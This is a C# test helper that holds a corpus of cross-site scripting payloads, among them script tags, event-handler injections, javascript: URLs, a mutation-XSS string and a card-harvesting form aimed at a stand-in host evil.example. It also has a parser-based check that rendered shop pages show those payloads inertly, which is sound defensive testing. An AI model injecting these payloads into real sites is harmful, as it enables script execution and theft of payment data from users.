using AngleSharp.Dom;
using AngleSharp.Html.Parser;

namespace WalkingDrum.Testing;

/// <summary>
/// A corpus of strings that try to run script when a page shows them, and a check that a rendered
/// page shows them inertly. Every string carries a marker, so the check can tell the corpus apart
/// from the page's own markup: no script, event handler, dangerous URL, frame, style or meta element
/// of the page may contain a marker.
/// </summary>
public static class HostileInput
{
    /// <summary>The marker every corpus string carries.</summary>
    public const string Marker = "wdxss";

    /// <summary>Hostile strings, each short enough for a title or label field.</summary>
    public static IReadOnlyList<string> Corpus { get; } =
    [
        $"<script>alert('{Marker}1')</script>",
        $"\"><script>alert('{Marker}2')</script>",
        $"'><img src=x onerror=alert('{Marker}3')>",
        $"<img src=x onerror=\"alert('{Marker}4')\">",
        $"<svg onload=alert('{Marker}5')>",
        $"<a href=\"javascript:alert('{Marker}6')\">click</a>",
        $"<iframe src=\"javascript:alert('{Marker}7')\"></iframe>",
        $"<body onload=alert('{Marker}8')>",
        $"</textarea><script>alert('{Marker}9')</script>",
        $"</title><script>alert('{Marker}10')</script>",
        $"{{{{ '{Marker}11' }}}}{{% raw %}}<script>{Marker}11</script>",
        $"<style>body{{background:url('javascript:{Marker}12')}}</style>",
        $"<div style=\"background-image: url(javascript:alert('{Marker}13'))\">x</div>",
        $"<math><mtext><table><mglyph><style><img src=x onerror=alert('{Marker}14')>",
        $"<a href=\"&#106;avascript:alert('{Marker}15')\">x</a>",
        $"<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('{Marker}16')\">",
        $"<object data=\"javascript:alert('{Marker}17')\"></object>",
        $"<details open ontoggle=alert('{Marker}18')>",
        $"\" autofocus onfocus=alert('{Marker}19') x=\"",
        $"<form action=\"https://evil.example/{Marker}20\"><input name=card></form>",
    ];

    /// <summary>Where in <paramref name="html"/> a corpus string became live markup; empty when none did.</summary>
    public static IReadOnlyList<string> LiveInjections(string html)
    {
        var document = new HtmlParser().ParseDocument(html);
        var problems = new List<string>();
        foreach (var element in document.All)
        {
            var tag = element.LocalName;
            // Meta tags carry merchant text (descriptions) legitimately; only a refresh can navigate.
            var dangerous = tag is "script" or "style" or "iframe" or "object" or "embed" or "base" or "form" or "frame"
                            || (tag == "meta" && element.HasAttribute("http-equiv"));
            if (dangerous && Carries(element))
            {
                problems.Add($"<{tag}> carrying the corpus: {Shorten(element.OuterHtml)}");
            }

            foreach (var attribute in element.Attributes)
            {
                if (!attribute.Value.Contains(Marker, StringComparison.OrdinalIgnoreCase) && !attribute.Name.Contains(Marker, StringComparison.OrdinalIgnoreCase))
                {
                    continue;
                }

                if (attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase) || attribute.Name is "style" or "srcdoc" or "autofocus"
                    || (IsUrlAttribute(attribute) && IsScriptUrl(attribute.Value)))
                {
                    problems.Add($"<{tag} {attribute.Name}=\"{Shorten(attribute.Value)}\">");
                }
            }
        }

        return problems;
    }

    // An element's own attributes, and the text of a script or style, but not its children: the
    // shop's own search form legitimately echoes a query in an input inside it. JSON-LD is data
    // and safe while it still parses as JSON (a breakout would cut it short).
    private static bool Carries(IElement element)
    {
        // The shop's own forms post to its own paths and may echo a query in their address.
        if (element.LocalName == "form" && element.GetAttribute("action") is { } action && action.StartsWith('/') && !action.StartsWith("//", StringComparison.Ordinal))
        {
            return element.Attributes.Any(a => a.Name != "action" && a.Value.Contains(Marker, StringComparison.OrdinalIgnoreCase));
        }

        if (element.Attributes.Any(a => a.Value.Contains(Marker, StringComparison.OrdinalIgnoreCase)))
        {
            return true;
        }

        if (element.LocalName is not ("script" or "style") || !element.TextContent.Contains(Marker, StringComparison.OrdinalIgnoreCase))
        {
            return false;
        }

        if (element.GetAttribute("type") is "application/ld+json" or "application/json")
        {
            try
            {
                using var json = System.Text.Json.JsonDocument.Parse(element.TextContent);
                return false;
            }
            catch (System.Text.Json.JsonException)
            {
                return true;
            }
        }

        return true;
    }

    private static bool IsUrlAttribute(IAttr attribute) =>
        attribute.Name is "href" or "src" or "action" or "formaction" or "data" or "xlink:href" or "poster";

    private static bool IsScriptUrl(string value)
    {
        var compact = new string(value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray());
        // Browsers ignore leading blanks and control characters before the scheme.
        return compact.StartsWith("javascript:", StringComparison.OrdinalIgnoreCase)
               || compact.StartsWith("vbscript:", StringComparison.OrdinalIgnoreCase)
               || compact.StartsWith("data:", StringComparison.OrdinalIgnoreCase);
    }

    private static string Shorten(string value) => value.Length <= 120 ? value : value[..120] + "…";
}
